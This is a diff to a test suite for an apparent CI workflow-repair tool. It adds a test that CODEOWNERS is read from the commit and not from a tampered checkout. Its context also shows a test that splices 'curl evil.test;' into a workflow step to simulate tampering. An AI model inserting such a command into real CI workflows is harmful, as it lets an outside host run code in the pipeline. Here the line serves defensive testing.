@@ -117,6 +117,16 @@ describe('a run of the default branch with a token that may write workflows', ()
     expect(await github.readFile(shop.fullName, BRANCH, CI_PATH)).toContain('on:\n  push:\n    branches: [main]\n')
   })
 
+  it("creates files, and adds to the CODEOWNERS of the commit, whatever the checkout has", async () => {
+    const files = { [CI_PATH]: REPAIRED, 'main.c': '', CODEOWNERS: '*.c @sam', '.github/autodevops.yml': "pipeline-owners: ['@acme/platform']\n" }
+    const shop = await makeRepository(files)
+    const { failures } = await runIn(shop, { files: { ...files, CODEOWNERS: '* @eve\n' }, inputs: { profile: 'pedantic', 'fix-pr': 'all' } })
+    expect(failures).toEqual([])
+    expect(await github.readFile(shop.fullName, BRANCH, 'CODEOWNERS')).toBe('*.c @sam\n/.github/workflows/ @acme/platform\n')
+    expect(await github.readFile(shop.fullName, BRANCH, '.github/dependabot.yml')).toContain('package-ecosystem: github-actions')
+    expect((await pulls(shop.fullName))[0]?.body).toContain('create .github/dependabot.yml')
+  })
+
   it("repairs the commit's own text, whatever an earlier step has made of the checkout", async () => {
     const shop = await makeRepository()
     const { log } = await runIn(shop, { files: { [CI_PATH]: DRIFTED.replace('echo "::', 'curl evil.test; echo "::'), '.github/workflows/extra.yml': DRIFTED } })
